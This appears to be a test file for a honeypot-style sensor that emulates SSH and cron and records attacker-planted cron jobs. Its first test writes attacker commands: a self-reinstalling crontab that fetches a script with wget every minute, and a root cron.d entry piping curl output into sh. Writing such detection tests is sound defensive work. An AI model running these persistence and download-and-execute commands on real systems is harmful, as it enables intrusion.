import { expect, test, vi } from 'vitest'
import { connect } from '../services/ssh/testing.ts'
import { testSensor } from '../testing.ts'
import { jobsOf } from './cron.ts'

test('a crontab that is written in the shell runs with the next minute, once, while the attacker is here', async () => {
  // The next minute is near.
  const real = Date.now.bind(Date)
  const clock = vi
    .spyOn(Date, 'now')
    .mockImplementation(() => Math.floor(real() / 60_000) * 60_000 + 59_000 + (real() % 900))
  try {
    await using lab = await testSensor()
    const client = await connect(lab)
    const run = (line: string): Promise<void> =>
      new Promise((resolve, reject) =>
        client.exec(line, (error, stream) => (error ? reject(error) : stream.on('close', resolve).resume())),
      )
    await run(
      'echo \'* * * * * wget -q http://192.0.2.44/cron.sh; echo "* * * * * wget -q http://192.0.2.44/cron.sh" | crontab -\' | crontab -',
    )
    const written = await lab.until('command.run')
    const job = await lab.until('command.run', ({ data }) => data.parent === written.id)
    expect(job.data).toMatchObject({
      user: 'root',
      line: expect.stringMatching(/^wget -q http:\/\/192\.0\.2\.44\/cron\.sh;/) as string,
    })
    await run("printf '*/5 * * * * root curl http://192.0.2.45/x | sh\\n' > /etc/cron.d/x")
    await lab.until('command.run', ({ data }) => data.line === 'curl http://192.0.2.45/x | sh')
    client.end()
    expect(lab.log.filter((line) => line.includes('fault'))).toEqual([])
  } finally {
    clock.mockRestore()
  }
}, 60_000)

test('jobs are found among all that stands in such files', () => {
  expect(jobsOf('# a\nMAILTO=x\n*/1 * * * * a b\n@reboot c\n1 2 3\n')).toEqual(['a b', 'c'])
  expect(jobsOf('* * * * * root a\n', true)).toEqual(['a'])
})
